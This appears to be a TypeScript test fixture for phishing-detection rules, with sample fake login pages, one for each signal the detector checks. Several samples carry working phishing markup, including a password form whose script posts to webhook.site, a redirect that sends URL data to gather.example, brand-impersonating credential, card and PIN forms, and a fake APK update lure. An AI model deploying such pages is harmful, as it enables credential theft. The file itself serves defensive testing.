import { type Rule, rules } from "@surename/adapters/screening-rules"
import type { GivenDraft } from "./given-draft.ts"
import { makeSite } from "./innocent-site.ts"
import { nested, writeScriptedForm } from "./rule-cases.ts"

type Page = Parameters<Rule["find"]>[0]
type Marks = Page["list"]

/** The rules, blind to one kind of mark: a reader that does not make it. */
export const blindRules = (kind: string): ReadonlyArray<Rule> => {
  const pages = new WeakMap<Page, Page>()
  const files = new WeakMap<Marks, Marks>()
  const blind = (of: Marks): Marks => {
    const known = files.get(of) ?? ((...kinds) => of(...kinds.filter((candidate) => String(candidate) !== kind)))
    files.set(of, known)
    return known
  }
  const blindTo = (page: Page): Page => {
    const known = pages.get(page) ?? { ...page, list: blind(page.list), files: page.files.map(blind) }
    pages.set(page, known)
    return known
  }
  return rules.map((rule) => ({ ...rule, find: (page) => rule.find(blindTo(page)) }))
}

const ours = "Ferry tickets to Skerry"
const secretElsewhere = writeScriptedForm("https://gather.example/", `<input type="password">`)

const gather = makeSite(
  "sends to an address of a list",
  "Ferry tickets to Skerry",
  `<h1>Ferry tickets</h1><form id="f"><input type="password"></form><script>var to=["https://webhook.site/1"];fetch(to[0],{method:"POST",body:new FormData(f)})</script>`,
)

/** Kind of mark → a draft that is not flagged without it; for those that decide none of the other drafts. */
export const markCases: ReadonlyArray<readonly [kind: string, draft: GivenDraft]> = Object.entries({
  id: makeSite("asks for a number of the state", "PayPal", `<form action="/a"><input name="ssn"></form>`),
  stylesheet: makeSite(
    "borrows a style",
    "Ferry tickets to Skerry",
    `<link rel="stylesheet" href="https://www.paypalobjects.com/a.css"><h1>Ferry tickets to Skerry</h1>${writeScriptedForm("https://gather.example/next.php", `<input type="password">`)}`,
  ),
  "forwards-address": makeSite(
    "takes its visitor along",
    "Ferry",
    `<script>location="https://gather.example/?e="+btoa(location.hash)</script>`,
  ),
  cvv: makeSite(
    "the number behind a card, and PIN",
    ours,
    `<h1>${ours}</h1><form action="/next.php"><input name="cvv"><input name="pin"></form>`,
  ),
  "borrowed-field": makeSite(
    "fields of a company",
    "Ferry",
    `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
  ),
  "script-redirect": makeSite(
    "goes on by script",
    "DHL Tracking",
    `<script>location="https://gather.example/"</script>`,
  ),
  address: gather,
  "sends-data": gather,
  file: makeSite(
    "asks for a file with a key",
    "PayPal",
    `<form action="/a"><input type="file" name="keystore"></form>`,
  ),
  program: makeSite(
    "has a program installed",
    "Ferry",
    `<h1>Your browser is out of date</h1><a href="a.apk">Install</a>`,
  ),
  "named-by-visitor": makeSite(
    "takes a name from its visitor",
    "Mail",
    `<form action="/in"><input type="password"></form><script>document.title=location.hash.split("@")[1]</script>`,
  ),
  "outbound-link": makeSite("leads elsewhere", "PayPal: Log in", `<p><a href="https://gather.example/">Open</a></p>`),
  prose: makeSite(
    "presses in a paragraph",
    "Webmail",
    `<h1>Webmail</h1><p>${"We move to other machines. ".repeat(8)}Your mailbox will be deleted.</p><form action="/in"><input type="password"></form>`,
  ),
  unread: makeSite("hides a page deeper than is read", ours, `<h1>${ours}</h1>${secretElsewhere}${nested}`),
})
